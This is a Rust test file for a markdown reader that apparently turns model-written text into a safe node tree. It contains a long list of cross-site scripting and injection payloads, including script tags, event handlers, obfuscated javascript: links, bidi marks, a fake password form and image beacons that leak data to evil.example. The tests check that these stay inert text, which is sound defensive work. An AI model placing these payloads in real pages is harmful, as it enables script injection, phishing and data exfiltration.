mod bounds;
mod everyday;
mod links;

use serde_json::{Value, json};

use super::{Block, read};

/// Every kind of node that a tree may hold.
const TYPES: &[&str] = &[
    "paragraph",
    "heading",
    "code",
    "quote",
    "list",
    "table",
    "rule",
    "text",
    "break",
    "image",
    "link",
    "strong",
    "emphasis",
    "strikethrough",
];

/// The tree as a page gets it.
fn tree(source: &str) -> Value {
    json!(read(source))
}

/// The inlines of the only paragraph.
fn inlines(source: &str) -> Value {
    let tree = tree(source);
    assert_eq!(tree.as_array().unwrap().len(), 1, "{source:?}: {tree}");
    assert_eq!(tree[0]["type"], "paragraph", "{source:?}: {tree}");
    tree[0]["inlines"].clone()
}

fn text(words: &str) -> Value {
    json!({"type": "text", "text": words})
}

/// Where the links of a tree lead.
fn links(tree: &Value) -> Vec<String> {
    let mut found = Vec::new();
    walk(tree, &mut |node| {
        if node["type"] == "link" {
            found.push(node["to"].as_str().unwrap().to_owned());
        }
    });
    found
}

/// What a tree says, without its marks.
fn words(tree: &Value) -> String {
    let mut said = String::new();
    walk(tree, &mut |node| {
        for member in ["text", "alt"] {
            said.push_str(node[member].as_str().unwrap_or_default());
        }
    });
    said
}

/// Calls something for every node, outer ones first.
fn walk(tree: &Value, visit: &mut impl FnMut(&Value)) {
    match tree {
        Value::Array(items) => items.iter().for_each(|item| walk(item, visit)),
        Value::Object(members) => {
            visit(tree);
            members.values().for_each(|member| walk(member, visit));
        }
        Value::Null | Value::Bool(_) | Value::Number(_) | Value::String(_) => {}
    }
}

/// Fails on anything in the tree that is neither one of our nodes nor text.
fn assert_harmless(tree: &Value, source: &str) {
    walk(tree, &mut |node| {
        let kind = node["type"].as_str().unwrap();
        assert!(TYPES.contains(&kind), "{kind} in {tree} from {source}");
        for (name, member) in node.as_object().unwrap() {
            let is_right = match (name.as_str(), member) {
                ("type" | "text" | "alt" | "language", Value::String(text)) => {
                    !text.contains(is_mark)
                }
                ("to", Value::String(to)) => is_ours(to),
                ("inlines" | "blocks" | "items" | "head" | "rows", Value::Array(_)) => true,
                ("level" | "start", Value::Number(_)) | ("start", Value::Null) => true,
                ("tight", Value::Bool(_)) => true,
                _ => false,
            };
            assert!(is_right, "{name} in {tree} from {source}");
        }
    });
}

/// Turns the reading order around, or is a letter of our own.
const fn is_mark(letter: char) -> bool {
    matches!(letter, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{fdd0}')
}

fn is_ours(to: &str) -> bool {
    let lower = to.to_lowercase();
    let is_plain = |one: char| !one.is_control() && !one.is_whitespace() && one != '\\';
    to.chars().all(is_plain)
        && ["http://", "https://", "mailto:", "#/"]
            .iter()
            .any(|scheme| lower.starts_with(scheme))
}

/// Ways to make a page run something, load something or look like something else.
const PAYLOADS: &[&str] = &[
    // Raw HTML, whole and torn.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "text <b onmouseover=alert(1)>bold</b>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=https://evil.example><input name=password type=password>",
    "<button formaction=javascript:alert(1)>ok</button>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import url(https://evil.example)</style>",
    "<a href=javascript:alert(1)>x</a>",
    "<video src=x onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!-- --><script>alert(1)</script>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script\n>alert(1)</script\n>",
    "<script",
    "<img src=\"x",
    "</p><script>alert(1)</script><p>",
    "</textarea></title></style><script>alert(1)</script>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div style='position:fixed;inset:0'>Approve here</div>",
    "<a id=approve name=approve>x</a>",
    // Images, which tell a stranger that and what was read.
    "![x](https://evil.example/?q=secret)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![x](javascript:alert(1))",
    "![](x \"onerror=alert(1)\")",
    "![a][b]\n\n[b]: https://evil.example/pixel.png",
    "[![x](https://evil.example/a.png)](https://evil.example)",
    "![x](https://evil.example/a.png =1x1)",
    // Links that are no addresses.
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](< javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](blob:https://evil.example/1)",
    "[x](file:///etc/passwd)",
    "[x](ftp://evil.example/)",
    "[x](intent://evil#Intent;end)",
    "[x](//evil.example/)",
    "[x](/api/freeze)",
    "[x](\\\\evil.example\\x)",
    "[x](https:\\\\evil.example)",
    "[x](https:/evil.example)",
    "[x](https:evil.example)",
    "[x](#/inbox)",
    "[x](?a=b)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[x][y]\n\n[y]: data:text/html,x",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[x](https://a.example\" onclick=\"alert(1))",
    "[x](https://a.example/'onclick='alert(1))",
    "[x](https://a.example/\"><script>alert(1)</script>)",
    "[x](https://a.example \"title\\\" onclick=alert(1)\")",
    "[x](https://a.example '\"><script>alert(1)</script>')",
    "[\"><script>alert(1)</script>](https://a.example)",
    "[x](https://a.example/<script>)",
    "[x](https://a.example/\u{202e}gpj.exe)",
    "[x](https://a.example/\u{0}x)",
    // Text that becomes an attribute.
    "```\"><script>alert(1)</script>\ncode\n```",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "``` {.x onclick=alert(1)}\ncode\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "# heading {#x onclick=alert(1)}",
    "# <script>alert(1)</script>",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| [x](javascript:alert(1)) | d |",
    "> <script>alert(1)</script>",
    "- <svg onload=alert(1)>",
    "1. ![x](https://evil.example/x.png)",
    "999999999. <script>",
    "~~<script>alert(1)</script>~~",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "- [ ] <input autofocus onfocus=alert(1)>",
    "$$\\href{javascript:alert(1)}{x}$$",
    "[[javascript:alert(1)]]",
    ":::script\nalert(1)\n:::",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "<\u{0}script>alert(1)</script>",
    "<a\u{c}href=javascript:alert(1)>x</a>",
];

#[test]
fn nothing_that_a_model_writes_becomes_more_than_text() {
    for payload in PAYLOADS {
        for source in [
            (*payload).to_owned(),
            format!("before {payload} after"),
            format!("- a\n\n  {payload}"),
        ] {
            assert_harmless(&tree(&source), &source);
        }
    }
    // All of them next to each other, in case one opens what another closes.
    let all = PAYLOADS.join("\n\n");
    assert_harmless(&tree(&all), "all of them");
    let all = PAYLOADS.concat();
    assert_harmless(&tree(&all), "all of them in one line");
}

#[test]
fn what_is_not_shown_as_it_was_meant_is_still_readable() {
    for (source, shown) in [
        ("<b>x</b>", json!([text("<b>x</b>")])),
        (
            "![a cat](https://evil.example/cat.png)",
            json!([{"type": "image", "alt": "a cat"}]),
        ),
        ("[here](javascript:alert(1))", json!([text("here")])),
        ("to \u{202e}txet", json!([text("to txet")])),
        ("a & b < c", json!([text("a & b < c")])),
        // What is defined elsewhere could change what is finished.
        ("[a][b] and [b]", json!([text("[a][b] and [b]")])),
    ] {
        assert_eq!(inlines(source), shown, "{source}");
    }
    assert_eq!(
        tree("| a |\n|:-:|\n| b |"),
        json!([{"type": "table", "head": [[text("a")]], "rows": [[[text("b")]]]}])
    );
    assert_eq!(
        words(&tree("[b]: javascript:x\n\n[b]")),
        "[b]: javascript:x[b]"
    );
}

#[test]
fn html_is_text() {
    let source = "<img src=x onerror=alert(1)><script>alert(1)</script>\n\n\
        <div onclick=\"x\">&lt;b&gt; &amp; &#x202e;&unknown;</div>";
    let tree = tree(source);
    let kinds = tree.as_array().unwrap().iter();
    assert!(
        kinds.clone().all(|block| block["type"] == "paragraph"),
        "{tree}"
    );
    let said: Vec<String> = kinds.map(words).collect();
    let said = said.join("\n");
    assert!(
        said.starts_with("<img src=x onerror=alert(1)><script>"),
        "{said}"
    );
    assert!(said.contains("<b> & \u{fffd}&unknown;"), "{said}");
    // Marks are read between tags, as anywhere else.
    assert_eq!(
        inlines("<div>\n*a*\n</div>"),
        json!([text("<div>\n"), {"type": "emphasis", "inlines": [text("a")]}, text("\n</div>")])
    );
}

#[test]
fn nothing_turns_the_reading_order_around() {
    assert_eq!(words(&tree("a\u{202e}b\u{2066}c\r\n")), "abc");
    assert_harmless(
        &tree("`\u{202e}`\n\n```\n\u{2067}x\n```\n\n&#x202e; `&#x202e;` \u{fdd0}"),
        "marks",
    );
    // Signs that are drawn as one lose the joiner, words keep theirs.
    assert_eq!(
        words(&tree("\u{1f469}\u{200d}\u{1f680} \u{2764}\u{fe0f}")),
        "\u{1f469}\u{1f680} \u{2764}"
    );
    assert_eq!(words(&tree("a\u{200d}b")), "a\u{200d}b");
}

#[test]
fn a_tree_is_read_back_as_it_was_written() {
    let blocks = read(&PAYLOADS.join("\n\n"));
    let back: Vec<Block> = serde_json::from_value(json!(blocks)).unwrap();
    assert_eq!(back, blocks);
}
